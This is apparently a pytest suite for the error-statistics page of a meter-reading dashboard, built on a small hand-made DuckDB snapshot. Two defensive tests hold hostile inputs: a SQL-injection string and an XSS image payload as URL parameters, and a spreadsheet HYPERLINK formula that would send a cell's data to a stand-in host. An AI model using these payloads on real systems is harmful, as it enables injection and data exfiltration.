"""The Errors page and its frames (dashboards/errors.py), on a tiny hand-made snapshot.

差错统计表 2026-03 (marts.error_stats_month; 2026-02: no review findings delivered, every error cell null):

  team      read  due   错抄 户/kWh   估抄 户/kWh   数据准备差错 户/kWh   合计 户/kWh   差错户数  rate
  抄表一队   990  1000    1 / 120.5      —              —                1 / 120.5       1     1/990 = 0.101%
  抄表二队   485   500    1 /  30.0    2 / 60.0       1 / 12.0 (clerk)   4 / 102.0       4     4/485 = 0.825%
  合计      1475  1500    2 / 150.5    2 / 60.0       1 / 12.0           5 / 222.5       5     5/1475 = 0.339%

per 万户 33.90; by meter 5/1530 = 0.327%; by energy 222.5/140,000 = 0.159%. Pareto (户数, largest first,
ties in the seed's order): 错抄 2 (40 %), 估抄 2 (80 %), 数据准备差错 1 (100 %).
By reader: 张伟 (一队) 1 error of 990 read; 李娜 (二队) 3 of 485 = 0.619% (the reader's own: 错抄 1, 估抄 2);
二队's '(核算员)' row holds the clerk's 数据准备差错 (no rate: NOT_A_READER).
李娜's findings: F-B1, F-B2 (估抄), F-B3 (错抄), lines 3-5 of 复核差错记录_2026-03.xlsx (F-B4 is the clerk's,
F-B5 a customer not due this month: neither counted); her flags: REG_DECREASE (fail) on MP-B02 line 12 and
HIGH (warn) on MP-B01 line 11 of 抄表明细_2026-03.csv.
Control limits: those of tests/test_dashboard_overview.py (flag_rate 2026-02 and 2026-03, error_rate 2026-03).
"""

from __future__ import annotations

import json
from datetime import date, datetime
from pathlib import Path

import duckdb
import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from dashboards import errors as er
from readq.config import load_toml
from tests.conftest import open_page, publish_copy, run_dashboard
from tests.test_dashboard_overview import insert, insert_spc
from warehouse.schema import ensure_schema

PAGE = "views/errors.py"
VERSION = "2026.12.1+test0003"
COMPUTED = datetime(2026, 4, 2, 8, 30)
ONE, TWO, CLERK = "抄表一队", "抄表二队", "(核算员)"
FINDINGS_FILE, READINGS_FILE = "复核差错记录_2026-03.xlsx", "抄表明细_2026-03.csv"
TYPES = [t["code"].lower() for t in load_toml("errors.toml")["types"]]
# team -> due, read, unknown, meters due, kWh due
VOLUME = {ONE: (1000, 990, 0, 1020, 100_000.0), TWO: (500, 485, 2, 510, 40_000.0)}


def stats_row(period: str, team: str, types: dict[str, tuple[int, float]] | None, *, volume: tuple | None,
              errors: int = 0, by_reader: int = 0, by_clerk: int = 0, reason: str | None = None, **keys: str) -> dict:
    """One row of an error_stats mart: every type's 户数 / 电量 (0 when findings arrived, null when not),
    totals and rates from them."""
    due, read, unknown, meters, kwh = volume or (None, None, None, None, None)
    row: dict[str, object] = {"period": period, "team": team, **keys, "customers_due": due, "customers_read": read,
                              "customers_unknown": unknown, "meters_due": meters, "kwh_due": kwh,
                              "findings_delivered": types is not None, "findings_quarantined": 0,
                              "null_reason": reason if types is not None else "NO_FINDINGS",
                              "config_version": VERSION, "computed_at": COMPUTED}
    if types is None:
        return row
    for code in TYPES:
        n, k = types.get(code, (0, 0.0))
        row[f"{code}_customers"], row[f"{code}_kwh"] = n, k
    kwh_error = sum(k for _, k in types.values())
    row.update(total_customers=sum(n for n, _ in types.values()), customers_with_error=errors,
               meters_with_error=errors, kwh_error=kwh_error, findings=sum(n for n, _ in types.values()),
               reader_customers=by_reader, clerk_customers=by_clerk, system_customers=0,
               reader_kwh=kwh_error - (12.0 if by_clerk else 0.0), clerk_kwh=12.0 if by_clerk else 0.0,
               system_kwh=0.0,
               findings_without_kwh=0, findings_out_of_scope=1 if team == TWO and reason is None else 0)
    if read:
        row.update(error_rate=errors / read, errors_per_10k=10_000 * errors / read, error_rate_meter=errors / meters,
                   error_rate_kwh=kwh_error / kwh)
    return row


MARCH = {ONE: {"misread": (1, 120.5)}, TWO: {"misread": (1, 30.0), "estimated": (2, 60.0), "data_prep": (1, 12.0)}}


def team_rows(team_names: dict[str, str] | None = None) -> list[dict]:
    names = team_names or {}
    rows = [stats_row("2026-02", names.get(t, t), None, volume=VOLUME[t]) for t in (ONE, TWO)]
    rows.append(stats_row("2026-03", names.get(ONE, ONE), MARCH[ONE], volume=VOLUME[ONE], errors=1, by_reader=1))
    rows.append(stats_row("2026-03", names.get(TWO, TWO), MARCH[TWO], volume=VOLUME[TWO], errors=4, by_reader=3,
                           by_clerk=1))
    return rows


def reader_rows() -> list[dict]:
    return [
        stats_row("2026-02", ONE, None, volume=VOLUME[ONE], reader="张伟", party="READER"),
        stats_row("2026-02", TWO, None, volume=VOLUME[TWO], reader="李娜", party="READER"),
        stats_row("2026-03", ONE, MARCH[ONE], volume=VOLUME[ONE], errors=1, reader="张伟", party="READER") | {
            "reader_customers": 1},
        stats_row("2026-03", TWO, {"misread": (1, 30.0), "estimated": (2, 60.0)}, volume=VOLUME[TWO], errors=3,
                  reader="李娜", party="READER") | {"reader_customers": 3},
        stats_row("2026-03", TWO, {"data_prep": (1, 12.0)}, volume=None, errors=1, reason="NOT_A_READER",
                  reader=CLERK, party="CLERK") | {"clerk_customers": 1, "reader_kwh": 0.0, "clerk_kwh": 12.0},
    ]


def segment_rows() -> list[dict]:
    return [stats_row(r["period"], r["team"], None if not r["findings_delivered"] else
                      MARCH[r["team"]], volume=VOLUME[r["team"]], errors=r.get("customers_with_error") or 0,
                      segment_no=f"S-{'A' if r['team'] == ONE else 'B'}") for r in team_rows()]


# finding, team, reader, customer, meter, type, responsible, kWh, found by, line, in scope
FINDINGS = [
    ("F-A1", ONE, "张伟", "C-A1", "E-A1", "MISREAD", "READER", 120.5, "REVIEW", 2, True),
    ("F-B1", TWO, "李娜", "C-B1", "E-B1", "ESTIMATED", "READER", 40.0, "RECHECK", 3, True),
    ("F-B2", TWO, "李娜", "C-B2", "E-B2", "ESTIMATED", "READER", 20.0, "REVIEW", 4, True),
    ("F-B3", TWO, "李娜", "C-B3", "E-B3", "MISREAD", "READER", 30.0, "COMPLAINT", 5, True),
    ("F-B4", TWO, "李娜", "C-B4", "E-B4", "DATA_PREP", "CLERK", 12.0, "REVIEW", 6, True),
    ("F-B5", TWO, "李娜", "C-B9", None, "MISREAD", "READER", 5.0, "REVIEW", 7, False),
]
# reader, meter key, rule, severity, observed, expected, line
FLAGS = [
    ("李娜", "MP-B01", "HIGH", "warn", 400.0, 150.0, 11),
    ("李娜", "MP-B02", "REG_DECREASE", "fail", -40.0, None, 12),
    ("张伟", "MP-A01", "HIGH", "warn", 300.0, 120.0, 13),
]


def delivery(delivery_id: str, name: str, kind: str) -> dict:
    return {"delivery_id": delivery_id, "file_name": name, "source_path": f"/landing/{name}", "sha256": delivery_id,
            "size_bytes": 1, "kind": kind, "period": "2026-03", "status": "loaded", "config_version": VERSION,
            "received_at": COMPUTED, "seq": 1}


def build_snapshot(path: Path, *, team_names: dict[str, str] | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(path))
    try:
        ensure_schema(con)
        insert(con, "marts.error_stats_month", team_rows(team_names))
        insert(con, "marts.error_stats_reader_month", reader_rows())
        insert(con, "marts.error_stats_segment_month", segment_rows())
        insert(con, "ops.deliveries", [delivery("dfdfdfdf", FINDINGS_FILE, "review_findings"),
                                       delivery("drdrdrdr", READINGS_FILE, "readings")])
        insert(con, "marts.error_findings", [
            {"period": "2026-03", "finding_no": f, "team": tm, "reader": r, "segment_no": f"S-{f[2]}",
             "attributed_by": "reading_meter", "customer_no": c, "meter_no": m, "meter_due": scope,
             "error_type": typ, "responsible": resp, "responsible_source": "error_type", "kwh_impact": kwh,
             "found_by": by, "found_date": date(2026, 3, 20), "in_scope": scope, "delivery_id": "dfdfdfdf",
             "sheet": "Sheet1", "source_row": line, "config_version": VERSION, "computed_at": COMPUTED}
            for f, tm, r, c, m, typ, resp, kwh, by, line, scope in FINDINGS])
        insert(con, "marts.reading_flags", [
            {"period": "2026-03", "team": TWO if r == "李娜" else ONE, "reader": r, "segment_no": f"S-{mp[3]}",
             "customer_no": f"C-{mp[3:]}", "meter_no": f"E-{mp[3:]}", "mp_key": mp, "rule_id": rule,
             "severity": sev, "observed": obs, "expected": exp, "evidence": "{}", "delivery_id": "drdrdrdr",
             "source_row": line, "config_version": VERSION, "computed_at": COMPUTED}
            for r, mp, rule, sev, obs, exp, line in FLAGS])
        insert_spc(con)
    finally:
        con.close()
    return path


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_snapshot(tmp_path_factory.mktemp("errors") / "snapshot.duckdb")


@pytest.fixture(autouse=True)
def _isolated(streamlit_isolated):
    """Fresh Streamlit caches and data folder for every test (see conftest)."""


@pytest.fixture
def snapshot(built: Path) -> Path:
    return publish_copy(built)


@pytest.fixture
def all_downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    """file name -> data of every st.download_button the page offered."""
    import streamlit as st

    captured: dict[str, bytes] = {}
    original = st.download_button

    def spy(label, data, *args, **kwargs):
        captured[kwargs["file_name"]] = data
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", spy)
    return captured


def run_page(**query: str | list[str]) -> AppTest:
    return open_page(PAGE, **query)


def frame_with(at: AppTest, column: str, nth: int = 0):
    return [d.value for d in at.dataframe if column in d.value.columns][nth]


def by_key(frame, *keys: str) -> dict:
    return {tuple(r[k] for k in keys) if len(keys) > 1 else r[keys[0]]: r for _, r in frame.iterrows()}


def charts(at: AppTest) -> dict[str, dict]:
    figs = [json.loads(c.proto.spec) for c in at.get("plotly_chart")]
    return {f["layout"]["title"]["text"]: f for f in figs}


def captions(at: AppTest) -> list[str]:
    return [c.value for c in at.caption]


# --- the page ------------------------------------------------------------------------------------------------

def test_error_table_in_the_seeds_shape_with_its_total(snapshot, all_downloads):
    at = run_page()
    assert at.title[0].value == "抄表差错统计与分析"
    table = frame_with(at, "错抄·户数")
    types = [t["zh"] for t in load_toml("errors.toml")["types"]]
    # the key, then 户数 and 电量 of every type in the seed's order, then 合计 and the three rates
    assert list(table.columns[:1 + 2 * len(types)]) == ["抄表队", *[f"{t}·{h}" for t in types
                                                                for h in ("户数", "电量(kWh)")]]
    assert list(table.columns[1 + 2 * len(types):1 + 2 * len(types) + 7]) == [
        "合计·户数", "合计·电量(kWh)", "应抄户数", "实抄户数", "差错户数", "差错率（按户）·差错率", "每万户差错户数"]
    rows = by_key(table, "抄表队")
    two, total = rows[TWO], rows["合计"]
    assert (two["错抄·户数"], two["估抄·户数"], two["估抄·电量(kWh)"], two["数据准备差错·户数"]) == (1, 2, 60.0, 1)
    assert (two["实抄户数"], two["差错户数"]) == (485, 4)
    assert two["差错率（按户）·差错率"] == pytest.approx(4 / 485 * 100)
    assert (two["责任方（户数）·抄表员"], two["核算员"], two["状态不明户数（隔离中）"]) == (3, 1, 2)
    assert (total["错抄·户数"], total["错抄·电量(kWh)"]) == (2, 150.5)
    assert (total["合计·户数"], total["合计·电量(kWh)"]) == (5, 222.5)
    assert total["差错率（按户）·差错率"] == pytest.approx(5 / 1475 * 100)
    assert total["每万户差错户数"] == pytest.approx(10_000 * 5 / 1475)
    assert total["差错率（按电能表只数）·差错率"] == pytest.approx(5 / 1530 * 100)
    assert total["差错率（按电量）·差错率"] == pytest.approx(222.5 / 140_000 * 100)

    figs = charts(at)
    pareto = figs["2026-03 各差错类型户数（从多到少）与累计占比"]
    bars, line = pareto["data"]
    assert bars["x"] == ["错抄", "估抄", "数据准备差错"] and bars["y"] == [2, 2, 1]
    assert line["y"] == pytest.approx([0.4, 0.8, 1.0])
    p_chart = figs["各抄表队逐月 抄表差错率（户） 与控制限"]
    titles = [a["text"] for a in p_chart["layout"]["annotations"]]
    assert titles == [ONE, TWO]  # a panel per team
    rate = [tr for tr in p_chart["data"] if tr["name"] == "本队比率"]
    assert [tr["y"] for tr in rate] == [pytest.approx([1 / 990]), pytest.approx([4 / 485])]
    assert rate[1]["customdata"] == [["4", "485"]]
    funnel = figs["2026-03 抄表差错率（户） 与户数（读数）"]
    curves = {tr["name"] for tr in funnel["data"] if tr["mode"] == "lines"}
    assert curves == {"95% 界限", "99.8% 界限", "全中心比率"}
    points = [tr for tr in funnel["data"] if tr["mode"].startswith("markers")]
    assert sorted(x for tr in points for x in tr["x"]) == [485, 990]
    assert any("受控" in tr["name"] for tr in points)

    readers = frame_with(at, "抄表员")
    assert set(map(tuple, readers[["抄表队", "抄表员"]].values.tolist())) == {
        (ONE, "张伟"), (TWO, "李娜"), (TWO, CLERK), ("合计", "")}
    clerk = by_key(readers, "抄表员")[CLERK]
    assert clerk["说明"] == "核算员／采集系统责任差错：不计入抄表员差错率"
    assert pd_null(clerk["差错率（按户）·差错率"])
    segments = frame_with(at, "抄表段编号")
    assert segments["抄表段编号"].tolist() == ["S-A", "S-B", ""]

    # a CSV of each table; reader names masked as `readq errors` writes them, rates as percentages
    assert set(all_downloads) == {"error_stats_team_2026-03.csv", "error_stats_reader_2026-03.csv",
                                  "error_stats_segment_2026-03.csv"}
    team_csv = all_downloads["error_stats_team_2026-03.csv"].decode("utf-8-sig").splitlines()
    assert team_csv[0].startswith("抄表队,错抄·户数,错抄·电量(kWh),漏抄·户数")
    assert "差错率（按户）·差错率（%）" in team_csv[0]
    assert team_csv[-1].startswith("合计,2,150.5,0,0.0,2,60.0")
    reader_csv = all_downloads["error_stats_reader_2026-03.csv"].decode("utf-8-sig")
    assert "张***" in reader_csv and "李***" in reader_csv and "张伟" not in reader_csv and "李娜" not in reader_csv
    assert CLERK in reader_csv  # a label, not a person


def pd_null(value: object) -> bool:
    import pandas as pd

    return bool(pd.isna(value))


def test_a_team_in_the_url_narrows_to_its_readers_and_segments(snapshot):
    at = run_page(team=TWO)
    readers = frame_with(at, "抄表员")
    assert readers["抄表员"].tolist() == [CLERK, "李娜", ""]
    total = by_key(readers, "抄表队")["合计"]
    assert total["差错户数"] == 4  # the reader's 3 and the clerk's 1
    assert frame_with(at, "抄表段编号")["抄表段编号"].tolist() == ["S-B", ""]
    assert set(by_key(frame_with(at, "错抄·户数"), "抄表队")) == {ONE, TWO, "合计"}  # the team table stays whole
    pareto = charts(at)["2026-03 各差错类型户数（从多到少）与累计占比"]["data"][0]
    assert pareto["x"] == ["估抄", "错抄", "数据准备差错"] and pareto["y"] == [2, 1, 1]
    assert at.selectbox(key="reader").options == [f"{CLERK} · {TWO}", f"李娜 · {TWO}"]


def test_from_a_reader_to_the_findings_and_flags_behind_the_number(snapshot):
    at = run_page(team=TWO, reader=f"李娜 · {TWO}")
    assert any(c.startswith("差错 3 户 / 实抄 485 户 = 0.619%；计入的差错单 3 张") for c in captions(at))
    findings = frame_with(at, "工单编号")
    assert findings["工单编号"].tolist() == ["F-B1", "F-B2", "F-B3"]  # not the clerk's F-B4, not F-B5 (not due)
    assert findings["差错类型"].tolist() == ["估抄", "估抄", "错抄"]
    assert set(findings["文件"]) == {FINDINGS_FILE} and findings["行"].tolist() == [3, 4, 5]
    assert findings["发现方式"].tolist() == ["抽查复抄", "复核", "客户投诉"]
    flags = frame_with(at, "规则名称")
    assert flags["规则"].tolist() == ["REG_DECREASE", "HIGH"]  # fail first
    assert set(flags["文件"]) == {READINGS_FILE} and flags["行"].tolist() == [12, 11]
    links = {pl_.proto.page: pl_.proto.query_string for pl_ in at.page_link}
    assert links["anomalies"] == ("month=2026-03&team=%E6%8A%84%E8%A1%A8%E4%BA%8C%E9%98%9F"
                                  "&reader=%E6%9D%8E%E5%A8%9C+%C2%B7+%E6%8A%84%E8%A1%A8%E4%BA%8C%E9%98%9F")
    assert links["readers"] == "month=2026-03&reader=%E6%9D%8E%E5%A8%9C+%C2%B7+%E6%8A%84%E8%A1%A8%E4%BA%8C%E9%98%9F"
    # selecting a flag links to that meter on the Anomalies page
    at.session_state["errors_reader_flags"] = {"selection": {"rows": [1], "columns": [], "cells": []}}
    at.run()
    links = {pl_.proto.page: pl_.proto.query_string for pl_ in at.page_link}
    assert links["anomalies"].endswith("&meter=MP-B01")


def test_the_clerks_row_lists_the_clerks_findings(snapshot):
    at = run_page(team=TWO, reader=f"{CLERK} · {TWO}")
    assert frame_with(at, "工单编号")["工单编号"].tolist() == ["F-B4"]
    assert not [d for d in at.dataframe if "规则名称" in d.value.columns]  # a party has no flags of its own
    assert any("是责任方，不是抄表员" in c for c in captions(at))


def test_month_without_findings_is_no_data_not_zero(snapshot):
    at = run_page(month="2026-02", metric="flag_rate", level="reader")
    assert any(i.value.startswith("本月未交付复核差错记录") for i in at.info)
    rows = by_key(frame_with(at, "错抄·户数"), "抄表队")
    for team in (ONE, TWO, "合计"):
        assert pd_null(rows[team]["错抄·户数"]) and pd_null(rows[team]["差错率（按户）·差错率"])
        assert rows[team]["说明"] == "本月未交付复核差错记录：差错数与差错率无数据（不是 0）"
    assert rows["合计"]["实抄户数"] == 1475  # the counts of what is due stand without findings
    assert any("2026-02 未交付复核差错记录" in i.value for i in at.info)  # the Pareto says why it is empty
    figs = charts(at)
    assert "各抄表队逐月 异常标记率 与控制限" in figs  # the flag rate has its months
    assert all(tr["x"] == ["2026-02", "2026-03"] for tr in figs["各抄表队逐月 异常标记率 与控制限"]["data"])


@pytest.mark.parametrize("bad", ["李娜' or 1=1 --", "<img src=x onerror=alert(1)>"])
def test_crafted_params_give_messages_not_errors(snapshot, bad):
    at = run_page(month=bad, team=bad, reader=bad, metric=bad, level=bad)
    infos = " ".join(i.value for i in at.info)
    for text in ("不在数据中，显示最新月份 2026-03", "链接中的抄表队", "控制图指标不可用", "漏斗图层级不可用",
                 "链接中的抄表员不在 2026-03"):
        assert text in infos
    assert not [d for d in at.dataframe if "工单编号" in d.value.columns]


def test_english_and_the_language_switch(snapshot):
    at = run_page(lang="en", level="reader")
    assert at.title[0].value == "Reading errors: statistics and analysis"
    table = frame_with(at, "Team")
    assert list(table.columns[:3]) == ["Team", "Misread·customers", "Misread·kWh"]
    figs = charts(at)
    assert figs["2026-03: customers per error type (largest first) and the cumulative share"]["data"][0]["x"] == [
        "Misread", "Estimated", "Data preparation (clerk)"]
    funnel = figs["2026-03: Error rate (customers) against volume"]
    names = sorted(n for tr in funnel["data"] if tr["mode"].startswith("markers") for n in tr["text"])
    assert names == ["张伟", "李娜"]  # the readers' funnel
    at.radio(key="ui_lang").set_value("zh").run()
    assert at.title[0].value == "抄表差错统计与分析"
    assert at.query_params["level"] == "reader"  # the filter survives the switch
    assert "lang" not in at.query_params


def test_csv_cells_cannot_run_as_formulas(tmp_path, all_downloads):
    evil = '=HYPERLINK("http://x.example/?"&A1,"点击")'
    publish_copy(build_snapshot(tmp_path / "evil.duckdb", team_names={ONE: evil}))
    at = run_page()
    assert evil in frame_with(at, "错抄·户数")["抄表队"].tolist()
    lines = all_downloads["error_stats_team_2026-03.csv"].decode("utf-8-sig").splitlines()
    assert any(line.startswith('"\'=HYPERLINK(""http://x.example/?""&A1,""点击"")",1,120.5,') for line in lines)
    assert not any(line.startswith(("=", '"=')) for line in lines)


def test_in_the_navigation_and_without_its_tables(tmp_path):
    path = tmp_path / "empty.duckdb"
    duckdb.connect(str(path)).close()
    publish_copy(path)
    at = run_dashboard(PAGE)  # from the default page, through the navigation (the page is in app.PAGES)
    assert "marts.error_stats_month" in at.info[0].value


# --- the frames (dashboards/errors.py) -------------------------------------------------------------------------

def test_columns_follow_config_and_repeat_no_header():
    cols = er.columns("reader", "zh")
    labels = [c.label for c in cols]
    assert labels[:3] == ["抄表队", "抄表员", "错抄·户数"]
    assert "责任方（户数）·抄表员" in labels  # 抄表员 twice: the key, and the party under its group
    assert len(set(labels)) == len(labels)
    assert {c.name: c.format for c in cols}["error_rate"] == "percent"


def test_stats_table_total_and_masking():
    rows = pl.DataFrame(reader_rows(), infer_schema_length=None).filter(pl.col("period") == "2026-03")
    table = er.stats_table(rows, "reader", "zh", total_name="合计", masked=True, percent_suffix="（%）")
    assert table["抄表员"].to_list() == ["张***", "李***", CLERK, ""]
    total = table.row(3, named=True)
    assert total["差错户数"] == 5 and total["实抄户数"] == 1475
    assert total["差错率（按户）·差错率（%）"] == pytest.approx(5 / 1475 * 100)
    assert total["说明"] is None  # the rows' notes differ: none for the total


def test_pareto_orders_by_customers_then_the_seeds_order():
    rows = pl.DataFrame(team_rows(), infer_schema_length=None)
    march = er.pareto(rows.filter(pl.col("period") == "2026-03"), "zh")
    assert march["label"].to_list() == ["错抄", "估抄", "数据准备差错"]
    assert march["kwh"].to_list() == [150.5, 60.0, 12.0]
    assert march["cumulative"].to_list() == pytest.approx([0.4, 0.8, 1.0])
    assert er.pareto(rows.filter(pl.col("period") == "2026-02"), "zh").height == 0  # no findings: nothing


def test_reader_options_match_the_readers_page():
    rows = pl.DataFrame(reader_rows(), infer_schema_length=None).filter(pl.col("period") == "2026-03")
    opts = er.reader_options(rows)
    assert opts[f"李娜 · {TWO}"] == (TWO, "李娜", "READER")
    assert opts[f"{CLERK} · {TWO}"] == (TWO, CLERK, "CLERK")
    from dashboards.forensics import reader_option

    assert er.reader_option(TWO, "李娜") == reader_option(TWO, "李娜")
